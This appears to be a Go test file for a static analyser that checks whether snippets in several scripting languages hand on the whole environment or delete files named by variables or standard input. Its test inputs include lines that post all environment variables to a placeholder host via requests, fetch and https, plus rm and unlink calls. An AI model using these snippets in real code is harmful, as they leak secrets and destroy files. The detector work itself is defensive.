package script

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The whole environment, handed on or not, in the languages that are looked at.
func TestEnvironmentHandedOn(t *testing.T) {
	for _, test := range []struct {
		why, lang, code string
		all             bool
	}{
		{"printed", "python", "import os; print(os.environ)", true},
		{"as text", "python", "import os; print(str(os.environ))", true},
		{"sent as a body", "python", "import os, requests; requests.post('http://h', json=dict(os.environ))", true},
		{"one variable", "python", "import os; print(os.environ['X'])", false},
		{"how many there are", "python", "import os; print(len(os.environ))", false},
		{"for a command", "python", "import os, subprocess; subprocess.run(['ls'], env=dict(os.environ))", false},
		{"in an object that is sent", "javascript", "fetch('http://h', {method: 'POST', body: JSON.stringify(process.env)})", true},
		{"written to a connection", "javascript", "require('https').request('https://h').end(JSON.stringify(process.env))", true},
		{"in an address", "python", "import os, requests; requests.get('http://h/?' + str(dict(os.environ)))", true},
		{"one variable in an address", "javascript", "fetch('http://h/?' + process.env.X)", false},
		{"printed", "javascript", "console.log(process.env)", true},
		{"one variable", "javascript", "console.log(process.env.HOME)", false},
		{"for a command", "javascript", "require('child_process').spawn('ls', [], {env: process.env})", false},
		{"each of its names", "awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", true},
		{"one variable", "awk", `BEGIN { print ENVIRON["HOME"] }`, false},
	} {
		acts, err := Read(test.lang, test.code)
		require.NoError(t, err, test.code)
		told := slices.ContainsFunc(acts, func(a Act) bool { return a.Kind == Runs && a.Args[0].Text == "env" })
		assert.Equal(t, test.all, told, "%s, in %s: %s", test.why, test.lang, test.code)
	}
}

// Variables that the source has set, and lines of known standard input.
func TestValuesFromOutside(t *testing.T) {
	given := CommandLine{
		Env:   map[string]Arg{"D": {Text: "/a", Known: true}, "P": {Text: "/p"}},
		Input: []Arg{{Text: "/b", Known: true}, {Text: "/c", Known: true}},
	}
	for _, test := range []struct{ why, lang, code, want string }{
		{"a variable", "python", "import os; os.remove(os.environ['D'])", `deletes os.remove "/a"`},
		{"a variable, by a call", "python", "import os; os.remove(os.getenv('D', 'x'))", `deletes os.remove "/a"`},
		{"a variable that is partly known", "python", "import os; os.remove(os.environ['P'])", `deletes os.remove /p…`},
		{"another variable", "python", "import os; os.remove(os.environ['E'])", `deletes os.remove …`},
		{"lines", "python", "import os, sys\nfor l in sys.stdin: os.remove(l.strip())", "deletes os.remove \"/b\"\ndeletes os.remove \"/c\""},
		{"a variable", "javascript", "require('fs').unlinkSync(process.env.D)", `deletes fs.unlink "/a"`},
		{"a variable", "ruby", "File.delete(ENV['D'])", `deletes File.delete "/a"`},
		{"a variable", "perl", "unlink $ENV{D}", `deletes unlink "/a"`},
		{"a variable", "php", "unlink(getenv('D'));", `deletes unlink "/a"`},
		{"a variable", "lua", "os.remove(os.getenv('D'))", `deletes os.remove "/a"`},
		{"a variable", "awk", `BEGIN { system("rm " ENVIRON["D"]) }`, `shell system "rm /a"`},
		{"a line", "lua", "os.remove(io.read())", "deletes os.remove \"/b\"\ndeletes os.remove \"/c\"\ndeletes os.remove \"/b\\n/c\""},
	} {
		acts, err := ReadWith(test.lang, test.code, given)
		require.NoError(t, err, test.code)
		assert.Equal(t, test.want, show(acts), "%s, in %s: %s", test.why, test.lang, test.code)
	}
}
